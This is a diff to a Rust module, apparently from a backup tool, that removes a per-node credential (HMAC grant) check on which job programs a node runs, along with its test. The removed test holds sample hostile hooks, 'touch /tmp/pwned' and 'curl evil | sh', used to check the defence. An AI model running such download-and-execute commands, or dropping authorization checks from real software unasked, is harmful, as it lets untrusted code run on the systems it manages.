@@ -27,7 +27,7 @@ use std::time::{Duration, Instant};
 
 use serde::Deserialize;
 
-pub use crate::log::job_spec::{Job, JobSpec, PluginReport, Source, DEFAULT_TIMEOUT_S};
+pub use crate::log::job_spec::{JobSpec, PluginReport, Source, DEFAULT_TIMEOUT_S};
 
 /// The protocol version plugins are run with (`BACKMESH_PLUGIN_PROTOCOL`).
 pub const PROTOCOL: u32 = 1;
@@ -101,31 +101,17 @@ pub fn check_programs(spec: &JobSpec, allowed: bool) -> Result<(), JobError> {
 }
 
 /// What programs this node runs for jobs, as its operator decided: none
-/// without `--allow-programs`; with it, and with an API token, only those
-/// of jobs registered under that token's grant (a registration may come
-/// from any node of the mesh).
+/// without `--allow-programs`. Whoever registered the job had this node's
+/// token or the operator's order (`super::change`).
 #[derive(Clone, Debug, Default)]
 pub struct Programs {
     pub allowed: bool,
-    pub token: Option<String>,
 }
 
 impl Programs {
-    /// Whether `job` may run the programs of `spec` here.
-    pub fn check(&self, job: &Job, spec: &JobSpec) -> Result<(), JobError> {
-        use hmac::Mac;
-        check_programs(spec, self.allowed)?;
-        let (Some(token), false) = (&self.token, spec.programs().is_empty()) else { return Ok(()) };
-        let granted = spec.grant.as_ref().is_some_and(|g| spec.mac(token, job).verify_slice(g).is_ok());
-        if granted {
-            return Ok(());
-        }
-        Err(JobError::Refused(format!(
-            "this node runs a job's programs ({}) only when the job was registered with its operator's \
-             credential, and this one was not (registered through a node without --token, or with another \
-             token): register it through a node with this node's --token",
-            spec.programs().join(", ")
-        )))
+    /// Whether a job may run the programs of `spec` here.
+    pub fn check(&self, spec: &JobSpec) -> Result<(), JobError> {
+        check_programs(spec, self.allowed)
     }
 }
 
@@ -563,45 +549,5 @@ mod tests {
             assert!(err.contains(what) && err.contains("--allow-programs"), "{err}");
             assert!(check_programs(&s, true).is_ok());
         }
-    }
-
-    #[test]
-    fn a_node_with_a_token_runs_programs_only_of_jobs_registered_under_its_grant() {
-        let hooked = JobSpec { pre: Some("touch /tmp/pwned".into()), ..JobSpec::default() };
-        let here = Programs { allowed: true, token: Some("adm".into()) };
-        let none: Vec<String> = Vec::new();
-        let tmp = vec!["*.tmp".to_string()];
-        let job = |node, path, every_min, excludes| Job { node, path, every_min, excludes };
-        let app = job("n2", "/srv/app", 60, &none);
-        // Registered through a node with the same token: runs.
-        let granted = hooked.clone().granted(Some("adm"), &app);
-        assert!(granted.grant.is_some());
-        assert_eq!(here.check(&app, &granted), Ok(()));
-        // Without a grant, under another token, for another job, node,
-        // schedule or excludes, or with the programs changed after the
-        // grant: refused, and said why.
-        let altered = JobSpec { pre: Some("curl evil | sh".into()), ..granted.clone() };
-        let refused = [
-            (app, hooked.clone()),
-            (app, hooked.clone().granted(Some("other"), &app)),
-            (job("n2", "/srv/other", 60, &none), granted.clone()),
-            (job("n3", "/srv/app", 60, &none), granted.clone()),
-            (job("n2", "/srv/app", 1, &none), granted.clone()),
-            (job("n2", "/srv/app", 60, &tmp), granted.clone()),
-            (app, altered),
-        ];
-        for (j, spec) in refused {
-            let e = here.check(&j, &spec).unwrap_err().to_string();
-            assert!(e.contains("operator's credential") && e.contains("--token"), "{e}");
-        }
-        // A node without a token trusts the mesh; one without
-        // --allow-programs runs none, grant or not.
-        assert!(Programs { allowed: true, token: None }.check(&app, &hooked).is_ok());
-        let e = Programs { allowed: false, token: Some("adm".into()) }.check(&app, &granted).unwrap_err().to_string();
-        assert!(e.contains("--allow-programs"), "{e}");
-        // A directory job needs no grant, and gets none.
-        let dir_job = JobSpec::default().granted(Some("adm"), &app);
-        assert!(dir_job.grant.is_none());
-        assert!(here.check(&app, &dir_job).is_ok());
     }
 }
